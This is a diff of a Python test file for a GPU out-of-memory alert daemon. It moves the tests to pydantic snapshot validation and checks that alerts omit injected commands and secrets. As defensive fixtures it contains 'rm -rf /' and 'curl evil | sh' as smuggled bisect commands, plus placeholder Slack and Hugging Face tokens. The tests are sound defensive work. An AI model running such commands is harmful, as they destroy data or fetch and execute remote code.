@@ -9,6 +9,7 @@ from typing import Any
 
 import pytest
 import snapshot_samples as samples
+from pydantic import ValidationError
 
 from oom_sentinel.daemon.alert_format import render, render_incident, sample_alert
 from oom_sentinel.daemon.alerts import (
@@ -19,7 +20,9 @@ from oom_sentinel.daemon.alerts import (
     StormSummary,
 )
 from oom_sentinel.daemon.events import Pool
+from oom_sentinel.daemon.regression import RegressionVerdict
 from oom_sentinel.daemon.snapshot import write_snapshot
+from oom_sentinel.daemon.snapshot_model import SnapshotDoc
 
 
 def _written(tmp_path: Path, **changes: Any) -> tuple[IncidentAlert, dict[str, Any]]:
@@ -32,7 +35,7 @@ def _written(tmp_path: Path, **changes: Any) -> tuple[IncidentAlert, dict[str, A
 
 def test_incident_alert_names_everything_needed_to_act(tmp_path: Path) -> None:
     intent, data = _written(tmp_path)
-    alert = render_incident(intent, data, samples.T0 + 2)
+    alert = render_incident(intent, SnapshotDoc.model_validate(data), samples.T0 + 2)
     text = alert.title + "\n" + alert.body
     assert alert.title == "OOM: GPU out of memory on main on render-box in KSampler"
     assert alert.severity == "critical" and alert.kind == "incident"
@@ -57,9 +60,11 @@ def test_incident_alert_names_everything_needed_to_act(tmp_path: Path) -> None:
 
 
 def test_suspected_regression_names_the_bisect_command(tmp_path: Path) -> None:
-    section = {"suspected": True, "summary": "ran at 14.1 GiB peak on 2026-01-01 before a pull"}
+    section = RegressionVerdict(
+        True, "ran at 14.1 GiB peak on 2026-01-01 before a pull", "workflow"
+    ).to_section()
     intent, data = _written(tmp_path, sections={"regression": section})
-    body = render_incident(intent, data, samples.T0).body
+    body = render_incident(intent, SnapshotDoc.model_validate(data), samples.T0).body
     assert "Suspected regression" in body
     assert "ran at 14.1 GiB peak on 2026-01-01 before a pull" in body
     assert f"Find the update that broke it: oom-bisect {data['id']}" in body
@@ -67,26 +72,42 @@ def test_suspected_regression_names_the_bisect_command(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize(
     "regression",
-    [None, "yes", {"suspected": "true"}, {"suspected": False}, [], {"bisect_command": "rm -rf /"}],
-    ids=["none", "string", "truthy-string", "false", "list", "no-flag"],
+    ["yes", {"suspected": "true"}, [], {"bisect_command": "rm -rf /"}],
+    ids=["string", "truthy-string", "list", "no-flag"],
 )
-def test_regression_section_is_read_defensively(tmp_path: Path, regression: Any) -> None:
-    intent, data = _written(tmp_path)
-    data = {**data, "regression": regression}
-    body = render_incident(intent, data, samples.T0).body
-    assert "oom-bisect" not in body and "rm -rf" not in body
+def test_a_regression_section_that_is_not_one_does_not_read(
+    tmp_path: Path, regression: Any
+) -> None:
+    """Such a snapshot does not read (the alert is then made from the facts alone, see
+    below); the writer never writes one (it leaves the section out, test_snapshot_model)."""
+    _intent, data = _written(tmp_path)
+    with pytest.raises(ValidationError):
+        SnapshotDoc.model_validate({**data, "regression": regression})
+
+
+@pytest.mark.parametrize("suspected", [None, False])
+def test_no_bisect_command_without_a_suspected_regression(
+    tmp_path: Path, suspected: bool | None
+) -> None:
+    sections = (
+        {} if suspected is None else {"regression": RegressionVerdict(False, "same").to_section()}
+    )
+    intent, data = _written(tmp_path, sections=sections)
+    body = render_incident(intent, SnapshotDoc.model_validate(data), samples.T0).body
+    assert "oom-bisect" not in body and "Suspected regression" not in body
 
 
 def test_a_foreign_bisect_command_is_not_repeated(tmp_path: Path) -> None:
     intent, data = _written(tmp_path)
-    data = {**data, "regression": {"suspected": True, "bisect_command": "curl evil | sh"}}
-    body = render_incident(intent, data, samples.T0).body
+    section = RegressionVerdict(True, "the install changed", "workflow").to_section()
+    data = {**data, "regression": {**section, "bisect_command": "curl evil | sh"}}
+    body = render_incident(intent, SnapshotDoc.model_validate(data), samples.T0).body
     assert "curl" not in body and f"oom-bisect {data['id']}" in body
 
 
 def test_killed_by_os_alert_says_who_killed(tmp_path: Path) -> None:
     intent, data = _written(tmp_path, pool=Pool.KILLED_BY_OS)
-    alert = render_incident(intent, data, samples.T0)
+    alert = render_incident(intent, SnapshotDoc.model_validate(data), samples.T0)
     assert alert.title.startswith("OOM: Killed for lack of memory on main")
     assert "killed by kernel" in alert.body
 
@@ -118,7 +139,7 @@ def test_secrets_in_a_snapshot_never_reach_the_alert(tmp_path: Path) -> None:
         "summary": "OOM on main, webhook https://hooks.slack.com/services/T000/B000/XXXXSECRET",
         "advice": [{"key": "k", "text": "set HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyz0123 again"}],
     }
-    alert = render_incident(intent, data, samples.T0)
+    alert = render_incident(intent, SnapshotDoc.model_validate(data), samples.T0)
     assert "XXXXSECRET" not in alert.body
     assert "hf_abcdefghijklmnopqrstuvwxyz0123" not in alert.body
 
